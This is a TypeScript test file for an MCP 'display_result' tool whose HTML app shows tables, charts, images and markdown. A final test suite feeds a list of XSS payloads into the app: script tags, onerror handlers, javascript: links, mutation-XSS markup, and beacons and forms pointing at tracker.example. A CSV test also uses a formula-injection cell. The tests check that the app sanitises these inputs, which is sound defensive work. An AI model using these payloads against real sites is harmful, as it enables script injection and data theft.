import { Client, StreamableHTTPClientTransport } from "@modelcontextprotocol/client";
import { Client as LegacyClient } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport as LegacyTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import type { Browser } from "playwright-core";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { type Shown, showApp } from "./fixtures/app-host.ts";
import { INSTALL_MS, startChromium } from "./fixtures/chromium.ts";
import { whenDone } from "./fixtures/cleanup.ts";
import { type RunningServer, startHttpServer } from "./fixtures/spawn.ts";

vi.setConfig({ testTimeout: 90_000 });

const URI = "ui://patchbay/display-result";
const APP_TYPE = "text/html;profile=mcp-app";
const APPS = { extensions: { "io.modelcontextprotocol/ui": { mimeTypes: [APP_TYPE] } } };
const MAX_APP_BYTES = 120_000;
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC";

let server: RunningServer;
let client: Client;
let browser: Browser;
let html: string;
beforeAll(async () => {
  server = await startHttpServer({ built: true });
  browser = await startChromium();
  client = await modern(APPS);
  html = ((await client.readResource({ uri: URI })).contents[0] as { text: string }).text;
}, INSTALL_MS);

async function modern(capabilities: object): Promise<Client> {
  const made = new Client(
    { name: "test", version: "0" },
    { versionNegotiation: { mode: { pin: "2026-07-28" } }, capabilities: capabilities as never },
  );
  whenDone(() => made.close());
  await made.connect(new StreamableHTTPClientTransport(new URL("/mcp", server.url)));
  return made;
}

async function legacy(capabilities: object): Promise<LegacyClient> {
  const made = new LegacyClient({ name: "test", version: "0" }, { capabilities });
  whenDone(() => made.close());
  await made.connect(new LegacyTransport(new URL("/mcp", server.url)) as never);
  return made;
}

/** Calls the tool and shows what it gives in a real host. */
async function show(input: Record<string, unknown>, options: Partial<Shown> = {}) {
  const result = await client.callTool({ name: "display_result", arguments: input });
  expect(result.isError, JSON.stringify(result.content)).not.toBe(true);
  return showApp(browser, { html, input, result, ...options });
}

describe("the app of display_result", () => {
  const metaOf = (tools: { name: string; _meta?: unknown }[]) =>
    Object.fromEntries(tools.filter((tool) => tool._meta !== undefined).map((tool) => [tool.name, tool._meta]));
  const APP = { display_result: { ui: { resourceUri: URI }, "ui/resourceUri": URI } };

  it("is named to clients that show apps, in both eras, and to no other", async () => {
    expect(metaOf((await client.listTools()).tools)).toEqual(APP);
    expect(metaOf((await (await modern({})).listTools()).tools)).toEqual({});
    const forms = { elicitation: {} };
    expect(metaOf((await (await legacy({ ...forms, ...APPS })).listTools()).tools)).toEqual(APP);
    expect(metaOf((await (await legacy(forms)).listTools()).tools)).toEqual({});
    const other = { extensions: { "io.modelcontextprotocol/ui": { mimeTypes: ["text/html"] } } };
    expect(metaOf((await (await modern(other)).listTools()).tools)).toEqual({});
  });

  it("is named to legacy clients without a session, of whom nothing is known", async () => {
    expect(metaOf((await (await legacy(APPS)).listTools()).tools)).toEqual(APP);
  });

  it("is read as one small page, needs nothing from elsewhere, and is not in the list of what people read", async () => {
    for (const reader of [client, await legacy(APPS)]) {
      const { contents } = await reader.readResource({ uri: URI });
      expect(contents).toEqual([
        {
          uri: URI,
          mimeType: APP_TYPE,
          text: html,
          _meta: { ui: { permissions: { clipboardWrite: {} }, prefersBorder: true } },
        },
      ]);
      const { resources } = await reader.listResources();
      expect(resources.filter(({ uri }) => uri.startsWith("ui:"))).toEqual([]);
    }
    expect(html).toMatch(/^<!doctype html>/);
    expect(Buffer.byteLength(html)).toBeLessThan(MAX_APP_BYTES);
    expect(html.replace(/<script>.*<\/script>/s, "")).not.toMatch(/<(?:script|img|link|iframe)\b/);
  });
});

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun"].map((month, place) => ({
  month,
  revenue: [1200, 1900, 1450, 2100, 2600, 2350][place],
  cost: [900, 1100, 1250, 1300, 1500, 1400][place],
}));

const FULL = {
  message: "The report is ready.",
  markdown:
    "## Summary\n\nRevenue **grew** by *96 %*, see [the source](https://example.com/a).\n\n- one\n- [x] two\n\n```js\nconst a = 1 < 2;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n#### Deep",
  rows: MONTHS,
  columns: ["month: Month", "revenue: Revenue (€)", "cost: Cost (€)"],
  chart: "line",
  title: "Revenue and cost",
  image: `data:image/png;base64,${PNG}`,
  alt: "A red square",
  result_data: { source: "ledger", checked: true, detail: { files: ["a.csv"] } },
};

describe.each(["light", "dark"] as const)("in a host that is %s", (theme) => {
  it("shows all parts, and axe-core finds nothing wrong", async () => {
    const app = await show(FULL, { context: { theme } });
    await app.picture(`full-${theme}`);
    const text = (await app.frame.textContent("main")) ?? "";
    for (const said of ["The report is ready.", "Revenue grew by 96 %", "Revenue (€)", "ledger", "a.csv", "☑ two"]) {
      expect(text).toContain(said);
    }
    expect(await app.frame.getAttribute("figure img", "alt")).toBe("A red square");
    expect(
      await app.frame.$eval("figure img", (image) => (image as unknown as { naturalWidth: number }).naturalWidth),
    ).toBe(10);
    expect(await app.frame.evaluate("getComputedStyle(document.documentElement).colorScheme")).toBe(theme);
    expect(await app.violations()).toEqual([]);
    expect(app.complaints).toEqual([]);
    expect(app.requested).toEqual([]);
  });

  it("draws each kind of chart", async () => {
    const rows = MONTHS.map((row, n) => ({ n, ...row }));
    const app = await showApp(browser, { html, context: { theme } });
    for (const chart of ["bar", "stacked", "line", "area", "pie", "scatter"]) {
      const y = chart === "pie" ? ["revenue"] : ["revenue", "cost"];
      const input = { rows, chart, x: chart === "scatter" ? "n" : "month", y, title: `As ${chart}` };
      await app.bridge("sendToolInput", { arguments: input });
      await app.bridge("sendToolResult", await client.callTool({ name: "display_result", arguments: input }));
      await app.frame.getByRole("img", { name: `As ${chart}` }).waitFor();
      await app.picture(`${chart}-${theme}`);
      expect(await app.frame.textContent("figure svg[role=img] desc")).toContain("revenue from 1200");
      expect(await app.frame.locator("svg[role=img] [data-tip]").count()).toBeGreaterThanOrEqual(y.length * 6);
      expect(await app.frame.textContent("main"), "a message that nobody wrote").not.toContain("Operation completed");
      expect(await app.violations(), chart).toEqual([]);
    }
  });

  it("shows a notification of each kind", async () => {
    const app = await showApp(browser, { html, context: { theme }, width: 360 });
    for (const [kind, name, role] of [
      ["info", "Info", "status"],
      ["success", "Success", "status"],
      ["warning", "Warning", "alert"],
      ["error", "Error", "alert"],
    ] as const) {
      const input = { message: `Disk\n${kind}`, notification_type: kind };
      await app.bridge("sendToolResult", await client.callTool({ name: "display_result", arguments: input }));
      await app.frame
        .getByRole(role)
        .filter({ hasText: `${name}: Disk\n${kind}` })
        .waitFor();
      await app.picture(`${kind}-${theme}`);
      expect(await app.violations(), kind).toEqual([]);
    }
  });
});

describe("a table in the app", () => {
  const rows = [
    { name: "ä", size: 10, at: "https://example.com/x?a=1" },
    { name: "b", size: 9.5, at: "-" },
    { name: "=1+1", size: null, at: 'with "quotes", and comma' },
    { name: "c", size: "100", at: null },
  ];
  const firstColumn = `[...document.querySelectorAll("tbody td:first-child")].map((cell) => cell.textContent)`;

  it("is sorted by the keyboard: up, down, and as it was", async () => {
    const { frame } = await show({ rows });
    const head = frame.getByRole("button", { name: "size" });
    await head.focus();
    await frame.page().keyboard.press("Enter");
    expect(await frame.evaluate(firstColumn)).toEqual(["b", "ä", "c", "=1+1"]);
    expect(await frame.getAttribute("th:nth-child(2)", "aria-sort")).toBe("ascending");
    await frame.page().keyboard.press("Space");
    expect(await frame.evaluate(firstColumn)).toEqual(["c", "ä", "b", "=1+1"]);
    await frame.page().keyboard.press("Enter");
    expect(await frame.evaluate(firstColumn)).toEqual(["ä", "b", "=1+1", "c"]);
    await frame.getByRole("button", { name: "name" }).click();
    expect(await frame.evaluate(firstColumn)).toEqual(["=1+1", "ä", "b", "c"]);
    expect(await frame.getAttribute("th:nth-child(2)", "aria-sort")).toBe("none");
  });

  it("is saved as CSV that runs nothing in a spreadsheet, where the host saves files", async () => {
    const app = await show({ rows, title: "My files" }, { capabilities: { downloadFile: {} } });
    await app.frame.getByRole("button", { name: "Save as CSV" }).click();
    await expect
      .poll(async () => (await app.told()).downloads)
      .toEqual([
        {
          contents: [
            {
              type: "resource",
              resource: {
                uri: "file:///My-files.csv",
                mimeType: "text/csv",
                text: 'name,size,at\r\nä,10,https://example.com/x?a=1\r\nb,9.5,\'-\r\n\'=1+1,,"with ""quotes"", and comma"\r\nc,100,',
              },
            },
          ],
        },
      ]);
  });

  it("is copied as CSV, and says so", async () => {
    const { frame } = await show({ rows });
    await frame.getByRole("button", { name: "Copy as CSV" }).click();
    await frame.getByText(/^(?:Copied|The host does not allow copying)$/).waitFor();
    expect(await frame.getByText("4 rows").waitFor({ timeout: 10_000 })).toBeUndefined();
  });

  it("opens links by its host, and by nothing else", async () => {
    const app = await show({ rows, markdown: "[mail](mailto:a@example.com)" });
    await app.frame.getByRole("link", { name: "https://example.com/x?a=1" }).click();
    await app.frame.getByRole("link", { name: "mail" }).click();
    await expect
      .poll(async () => (await app.told()).links)
      .toEqual(["https://example.com/x?a=1", "mailto:a@example.com"]);
    expect(app.frame.url()).toMatch(/\/app$/);
    expect(app.requested).toEqual([]);
  });

  it("scrolls in its own frame, by the keyboard too, when it is long and wide", async () => {
    const many = Array.from({ length: 100 }, (_, row) =>
      Object.fromEntries(Array.from({ length: 10 }, (_, column) => [`column ${column}`, `cell ${row}/${column}`])),
    );
    const app = await show({ rows: many }, { width: 400 });
    await app.picture("long");
    expect(await app.frame.evaluate("document.documentElement.scrollWidth <= innerWidth")).toBe(true);
    expect((await app.told()).sizes.at(-1)?.height).toBeLessThan(700);
    await app.frame.locator(".scroll").focus();
    await app.page.keyboard.press("End");
    await expect.poll(() => app.frame.evaluate("document.querySelector('.scroll').scrollTop")).toBeGreaterThan(0);
    expect(await app.violations()).toEqual([]);
  });
});

describe("a chart in the app", () => {
  it("has room for long names, negative numbers, gaps and one value", async () => {
    const rows = [
      { place: "A very long name of a place in the mountains", a: -5, b: 3 },
      { place: "Short", a: null, b: -2 },
      { place: "Another long name that needs room", a: 12, b: 0 },
    ];
    const app = await showApp(browser, { html, width: 420 });
    const draw = async (input: Record<string, unknown>) => {
      const result = await client.callTool({ name: "display_result", arguments: input });
      await app.bridge("sendToolInput", { arguments: input });
      await app.bridge("sendToolResult", result);
      await app.frame.getByRole("img", { name: String(input.title) }).waitFor();
      expect(await app.frame.evaluate("document.documentElement.scrollWidth <= innerWidth"), `${input.title}`).toBe(
        true,
      );
      expect(await app.frame.innerHTML("main"), `${input.title}`).not.toMatch(/NaN|Infinity|undefined/);
    };
    for (const chart of ["bar", "stacked", "line", "area"]) {
      await draw({ rows, chart, title: `Changes as ${chart}` });
      await app.picture(`long-names-${chart}`);
    }
    for (const chart of ["bar", "line", "area", "pie", "scatter"]) {
      await draw({ rows: [{ x: 1, y: 0.000_05 }], chart, y: ["y"], title: `One as ${chart}` });
    }
    const extreme = [
      { x: "a", y: 1e300 },
      { x: "b", y: -1e300 },
      { x: "c", y: 5e-324 },
    ];
    for (const chart of ["bar", "line"]) await draw({ rows: extreme, chart, title: `Extremes as ${chart}` });
    const texts = await app.frame.locator("figure svg[role=img] text").allTextContents();
    expect(texts.filter((text) => text.length > 20)).toEqual([]);
    const alike = Array.from({ length: 6 }, (_, n) => ({ month: `The month with the very long name ${n + 1}`, v: n }));
    await draw({ rows: alike, chart: "bar", title: "Alike" });
    const names = await app.frame.locator("figure svg[role=img] text").filter({ hasText: "…" }).allTextContents();
    expect(new Set(names).size).toBe(names.length);
    expect(names.length).toBeGreaterThan(3);
  });

  it("puts times and numbers where they lie", async () => {
    const rows = [1, 2, 4, 8, 16].map((day) => ({ day: `2026-03-${String(day).padStart(2, "0")}`, value: day }));
    const { frame, picture } = await show({ rows, chart: "line" });
    await picture("times");
    const found = await frame
      .locator("path.fill")
      .evaluateAll((marks) => marks.map((mark) => mark.getAttribute("transform")));
    const places = found.map((transform) => Number(/translate\(([\d.]+)/.exec(transform ?? "")?.[1]));
    const steps = places.slice(1).map((place, index) => place - (places[index] ?? 0));
    expect(steps[1]).toBeCloseTo((steps[0] ?? 0) * 2, 0);
    expect(steps[3]).toBeCloseTo((steps[0] ?? 0) * 8, 0);
  });

  it("is drawn anew when its frame gets another width, and tells its host the size", async () => {
    const app = await show({ rows: MONTHS, chart: "bar" });
    const widthOf = () => app.frame.locator("figure svg[role=img]").getAttribute("width");
    const before = Number(await widthOf());
    await app.page.setViewportSize({ width: 400, height: 800 });
    await expect.poll(async () => Number(await widthOf())).toBeLessThan(before - 200);
    const tooHigh = async () =>
      Number(await app.frame.evaluate("document.documentElement.scrollHeight")) -
      ((await app.told()).sizes.at(-1)?.height ?? 0);
    await expect.poll(tooHigh).toBe(0);
  });

  it("shows the value of a mark beside the pointer", async () => {
    const { frame } = await show({ rows: MONTHS, chart: "bar", y: ["revenue"] }, { context: { locale: "de-DE" } });
    await frame.locator("rect[data-tip]").first().hover();
    expect(await frame.locator(".tip").textContent()).toBe("Jan: 1.200");
  });
});

describe("the app follows its host", () => {
  it("through the call: nothing yet, then the result, then another theme", async () => {
    const app = await showApp(browser, { html, input: FULL });
    expect(await app.frame.textContent("main")).toBe("");
    await app.bridge("sendToolInputPartial", { arguments: { markdown: "# ha" } });
    const result = await client.callTool({ name: "display_result", arguments: FULL });
    await app.bridge("sendToolResult", result);
    await app.frame.getByText("The report is ready.").waitFor();
    const background = () => app.frame.evaluate("getComputedStyle(document.body).backgroundColor");
    await app.bridge("sendHostContextChange", { theme: "dark" });
    await expect.poll(background).toBe("rgb(30, 30, 32)");
    const variables = { "--color-background-primary": "rgb(1, 2, 3)", "--color-text-primary": "rgb(250, 250, 250)" };
    await app.bridge("sendHostContextChange", { styles: { variables } });
    await expect.poll(background).toBe("rgb(1, 2, 3)");
    await app.bridge("sendHostContextChange", {
      styles: { variables: { "--color-background-primary": "rgb(9, 9, 9)" } },
    });
    await expect.poll(background).toBe("rgb(30, 30, 32)");
    expect(await app.bridge("teardownResource", {})).toEqual({});
    expect((await app.told()).errors).toEqual([]);
  });

  it("when the call is cancelled, fails, or waits for the user", async () => {
    const app = await showApp(browser, { html });
    await app.bridge("sendToolCancelled", { reason: "user action" });
    await app.frame.getByText("The call was cancelled.").waitFor();
    const failed = await client.callTool({ name: "display_result", arguments: { chart: "bar" } });
    await app.bridge("sendToolResult", failed);
    await app.frame.getByText('"chart" needs "rows"').waitFor();
    await app.bridge("sendToolResult", { content: [{ type: "text", text: "not JSON" }] });
    await app.frame.getByText("not JSON").waitFor();
    await app.bridge("sendToolResult", {
      content: [],
      structuredContent: { status: "needs_input", message: "Confirm first." },
    });
    await app.frame.getByText("Confirm first.").waitFor();
    expect(app.complaints).toEqual([]);
  });

  it("shows an SVG as an image, which only the arguments hold", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><script>alert(1)</script><rect width="40" height="20" fill="red"/></svg>`;
    for (const image of [`data:image/svg+xml,${encodeURIComponent(svg)}`, Buffer.from(svg).toString("base64")]) {
      const app = await show({ image, alt: "Red" }, { enforced: false });
      await app.frame.locator("figure img").waitFor();
      await expect
        .poll(() => app.frame.$eval("figure img", (each) => (each as unknown as { naturalWidth: number }).naturalWidth))
        .toBe(40);
      expect(app.complaints).toEqual([]);
    }
  });
});

/** What would run or load something, were it taken for markup. Each tells by a dialog or a request. */
const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(2)">',
  "<svg onload=alert(3)><script>alert(4)</script></svg>",
  "[click](javascript:alert(5))",
  '<a href="javascript&colon;alert(6)">click</a>',
  "![pixel](https://tracker.example/pixel.png?secret=1)",
  '<img srcset="https://tracker.example/2.png 1x">',
  '<iframe srcdoc="<script>parent.alert(7)</script>"></iframe>',
  '<form action="https://tracker.example/"><input name=a><button>Send</button></form>',
  "<style>@import url(https://tracker.example/x.css); main { display: none }</style>",
  '<div style="background:url(https://tracker.example/bg.png);position:fixed;inset:0">over</div>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">',
  '<meta http-equiv="refresh" content="0;url=https://tracker.example/">',
  '<base href="https://tracker.example/"><link rel=stylesheet href=https://tracker.example/y.css>',
  '<a href="data:text/html,<script>alert(9)</script>">data</a>',
  '<video src="https://tracker.example/v.mp4" autoplay onerror=alert(10)></video>',
  "</script><script>alert(11)</script>",
];

describe.each([
  ["with the policy of the specification", true],
  ["without any policy, not even the app's own", false],
])("hostile content does nothing in a host %s", (_name, enforced) => {
  it("in any place", async () => {
    const rows = HOSTILE.map((text, n) => ({
      [HOSTILE[0] ?? ""]: text,
      constructor: text,
      toString: n,
      hasOwnProperty: n + 1,
    }));
    const input = {
      message: HOSTILE.join("\n"),
      markdown: HOSTILE.join("\n\n"),
      rows,
      chart: "bar",
      x: "constructor",
      y: ["toString", "hasOwnProperty"],
      title: HOSTILE[1],
      image: PNG,
      alt: `"><img src=x onerror=alert(1)>`,
      result_data: { [HOSTILE[1] ?? ""]: HOSTILE[2], constructor: HOSTILE, toString: { valueOf: HOSTILE[1] } },
    };
    const context = { theme: "light" as const, locale: '"><script>alert(1)</script>' };
    const page = enforced ? html : html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
    const app = await show(input, { html: page, enforced, context });
    await app.picture(`hostile-${enforced}`);
    await app.frame
      .locator("a")
      .evaluateAll((links) => links.map((link) => (link as unknown as { click(): void }).click()));
    await app.frame.locator("summary", { hasText: "Data (" }).click();
    await app.frame.getByRole("button", { name: "constructor" }).click();
    await app.page.waitForTimeout(300);
    expect(app.requested).toEqual([]);
    // What is cleaned of them says what it would have refused, had it run.
    expect(
      app.complaints.filter((text) => !enforced || !/^(?:Executing|Applying|Setting) .* violates /.test(text)),
    ).toEqual([]);
    const { links, errors } = await app.told();
    expect(links.filter((url) => !/^https?:/.test(url))).toEqual([]);
    expect(errors).toEqual([]);
    const inner = await app.frame.innerHTML("main");
    expect(inner).not.toMatch(/<(?:script|iframe|form|style|link|base|meta|video|math|object|embed|input)\b/i);
    expect(await app.frame.locator("main [style], main [onerror], main [onload], main [class*=over]").count()).toBe(0);
    const cells = await app.frame.locator("tbody td:nth-child(2)").allTextContents();
    expect(cells.sort()).toEqual([...HOSTILE].sort());
    expect(await app.violations()).toEqual([]);
  });
});
